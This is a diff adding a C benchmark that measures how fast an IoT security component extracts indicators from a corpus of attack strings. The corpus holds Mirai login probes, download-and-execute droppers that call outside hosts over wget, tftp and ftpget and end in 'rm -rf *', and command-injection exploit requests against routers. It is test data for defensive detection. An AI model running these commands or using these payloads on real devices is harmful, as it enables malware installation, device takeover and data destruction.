@@ -0,0 +1,101 @@
+/*
+ * Indicator extraction throughput
+ *
+ * Scans a corpus of bot command lines and exploit requests the way the
+ * services do, whole and in recv()-sized pieces, and reports bytes per
+ * second and the cost per record.
+ *
+ * Usage: bench_indicators [iterations]
+ */
+
+#include "security/indicators.h"
+#include "esp_timer.h"
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#define DEFAULT_ITERATIONS 200000
+
+static const char *const CORPUS[] = {
+    // Mirai login probe
+    "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n",
+    // Dropper fetched every way the device might allow
+    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://185.244.25.153/bins.sh; "
+    "chmod 777 bins.sh; sh bins.sh; tftp 185.244.25.153 -c get tftp1.sh; chmod 777 tftp1.sh; "
+    "sh tftp1.sh; tftp -r tftp2.sh -g 185.244.25.153; chmod 777 tftp2.sh; sh tftp2.sh; "
+    "ftpget -v -u anonymous -p anonymous -P 21 185.244.25.153 ftp1.sh ftp1.sh; sh ftp1.sh; "
+    "rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
+    "/bin/busybox wget -O - http://cnc.badhost.xyz:8080/mips > .d; chmod +x .d; ./.d telnet.mips",
+    "cd /tmp; wget 45.12.3.4:8080/x.arm7; chmod 777 x.arm7; ./x.arm7 telnet",
+    // Echo-loaded ELF header
+    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
+    "\\x00\\x02\\x00\\x08\\x00\\x00' > .s",
+    // HTTP exploits, plain and percent-encoded
+    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.10/jaws;sh+/tmp/jaws HTTP/1.1",
+    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m"
+    "+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
+    "ping_addr=%3Bcurl%20-o%20%2Ftmp%2Fx%20https%3A%2F%2Fuser%3Apw%40dl.evil-cdn.com%2Fx86%3Bsh%20%2Ftmp%2Fx",
+    "uname -a; cat /proc/cpuinfo; version 1.2.3.4.5; ip 10.0.0.256",
+};
+
+#define CORPUS_SIZE (sizeof(CORPUS) / sizeof(CORPUS[0]))
+
+static volatile unsigned sink;
+
+// Internal function prototypes
+static double time_scan(int iterations, size_t piece);
+
+int main(int argc, char **argv)
+{
+    static const size_t PIECES[] = { 0, 64, 16, 1 };
+    int iterations = argc > 1 ? atoi(argv[1]) : DEFAULT_ITERATIONS;
+    if (iterations <= 0) {
+        iterations = DEFAULT_ITERATIONS;
+    }
+
+    size_t bytes = 0;
+    for (size_t i = 0; i < CORPUS_SIZE; i++) {
+        bytes += strlen(CORPUS[i]);
+    }
+
+    // Warm up caches and branch predictors
+    time_scan(iterations / 10, 0);
+
+    printf("%zu records, %zu bytes on average, %d passes\n", CORPUS_SIZE, bytes / CORPUS_SIZE,
+           iterations);
+    for (size_t p = 0; p < sizeof(PIECES) / sizeof(PIECES[0]); p++) {
+        double ns = time_scan(PIECES[p] == 1 ? iterations / 10 : iterations, PIECES[p]);
+        char label[32];
+        if (PIECES[p] == 0) {
+            snprintf(label, sizeof(label), "whole");
+        } else {
+            snprintf(label, sizeof(label), "%zu-byte pieces", PIECES[p]);
+        }
+        printf("%-16s %8.1f ns/record, %6.1f MB/s\n", label, ns,
+               ns > 0 ? bytes / (double)CORPUS_SIZE / ns * 1000.0 : 0.0);
+    }
+    return 0;
+}
+
+static double time_scan(int iterations, size_t piece)
+{
+    size_t lens[CORPUS_SIZE];
+    for (size_t i = 0; i < CORPUS_SIZE; i++) {
+        lens[i] = strlen(CORPUS[i]);
+    }
+
+    int64_t start = esp_timer_get_time();
+    for (int n = 0; n < iterations; n++) {
+        for (size_t i = 0; i < CORPUS_SIZE; i++) {
+            indicator_set_t set;
+            size_t step = piece == 0 ? lens[i] : piece;
+            indicators_init(&set);
+            for (size_t pos = 0; pos < lens[i]; pos += step) {
+                indicators_scan(&set, CORPUS[i] + pos, lens[i] - pos < step ? lens[i] - pos : step);
+            }
+            indicators_flush(&set);
+            sink += set.count;
+        }
+    }
+    return (esp_timer_get_time() - start) * 1000.0 / ((double)iterations * CORPUS_SIZE);
+}